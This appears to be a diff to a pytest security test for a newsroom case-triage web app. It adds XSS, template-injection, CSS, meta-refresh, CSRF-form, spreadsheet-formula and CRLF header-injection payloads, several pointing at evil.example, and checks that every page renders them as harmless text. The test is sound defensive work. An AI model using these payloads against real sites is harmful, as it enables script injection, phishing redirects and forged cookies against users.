@@ -4,12 +4,18 @@ from __future__ import annotations
 
 from dataclasses import replace
 from typing import TYPE_CHECKING
+from urllib.parse import urlencode
 
 import pytest
+from desk_rooms import NOW, room_over
 from lxml import html
+
+from service import accounts, triage
+from service.database.cases import Dues
 
 if TYPE_CHECKING:
     from collections.abc import Callable
+    from pathlib import Path
 
     from fastapi.testclient import TestClient
 
@@ -25,6 +31,18 @@ PAYLOADS = [
     "{{ 7 * 7 }}{% raw %}",
     "<a href='javascript:alert(1)'>اضغط</a>",
     "&lt;b&gt; &#x3c;i&#x3e;",
+    "<iframe src='//evil.example'></iframe><base href='//evil.example/'>",
+    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "-->]]><![CDATA[<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    '" onmouseover=alert(1) hx-get=//evil.example hx-trigger=load "',
+    "<form action=//evil.example><input name=csrf><button>دخول</button></form>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "%3Cscript%3Ealert(1)%3C/script%3E ${7*7} #{7*7} <%= 7*7 %>",
+    '=HYPERLINK("http://evil.example","اضغط")',
+    "\r\nSet-Cookie: forged=1",
+    "كلمة" * 30,
 ]
 
 
@@ -89,6 +107,61 @@ def test_markup_in_scraped_text_is_shown_and_never_run(payload: str, newsroom: l
             assert not [name for name in element.attrib if name.startswith("on") or name in {"style", "autofocus"}]
             assert not element.get("href", "").lower().startswith(("javascript:", "data:"))
         assert payload in page.text_content()
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_markup_stays_text_on_every_page(payload: str, newsroom: list[Document], tmp_path: Path) -> None:
+    poisoned = replace(_poisoned(newsroom[0], payload), case="case-hostile", case_state="new")
+    other = replace(newsroom[1], case="case-hostile")
+    urls = f"sqlite:///{tmp_path}/rasid.db", f"sqlite:///{tmp_path}/index.db"
+    with room_over([poisoned, other], *urls) as room, room.client("chief") as client:
+        with room.database.write() as connection:
+            revision = triage.set_state(
+                connection,
+                "case-hostile",
+                "referred",
+                actor="editor",
+                revision=1,
+                now=NOW,
+                dues=Dues(),
+                referred_to=payload[:200],
+                reason=payload[:200],
+            ).revision
+            triage.add_note(connection, "case-hostile", payload, actor="editor", now=NOW)
+            accounts.note(connection, payload, "login", f"user:{payload}", NOW, why=payload)
+        assert revision == 2
+        token = html.fromstring(client.get("/").text).cssselect("[name=csrf]")[0].get("value")
+        client.post("/saved", data={"csrf": token, "name": payload[:80], "query": urlencode({"q": payload})})
+        item = poisoned.id
+        for path in (
+            *("/", f"/?item={item}", f"/item/{item}", f"/item/{item}/versions", "/cases?state=any", "/saved"),
+            *("/cases?state=any&case=case-hostile", "/cases/case-hostile", "/cases/case-hostile/strip"),
+            *("/overview", "/sources", "/alerts", "/alerts/messages", "/audit", "/users", "/account"),
+            "/alerts/new?" + urlencode({"q": payload, "outlet": payload}),
+            "/cases?" + urlencode({"q": payload, "assignee": payload, "need": payload}),
+        ):
+            answer = client.get(path)
+            assert answer.status_code == 200, path
+            assert "unsafe" not in answer.headers["Content-Security-Policy"]
+            assert "set-cookie" not in answer.headers
+            _assert_clean(html.fromstring(answer.text), path)
+
+
+def _assert_clean(page: html.HtmlElement, path: str) -> None:
+    """Assert that nothing is there that our templates do not make."""
+    for script in page.iter("script"):
+        assert script.get("src", "").startswith("/static/"), path
+        assert not (script.text or "").strip(), path
+    assert not list(page.iter("img", "style", "iframe", "object", "embed", "base", "math", "mtext")), path
+    for form in page.iter("form"):
+        target = form.get("action") or "/"
+        assert target.startswith("/"), path
+        assert not target.startswith("//"), path
+    for element in page.iter():
+        assert not [name for name in element.attrib if name.startswith("on") or name in {"style", "http-equiv"}], path
+        for name in ("href", "src", "hx-get", "hx-post"):
+            value = element.get(name, "").strip().lower()
+            assert not value.startswith(("javascript:", "data:", "//")), path
 
 
 @pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "//evil.example"])
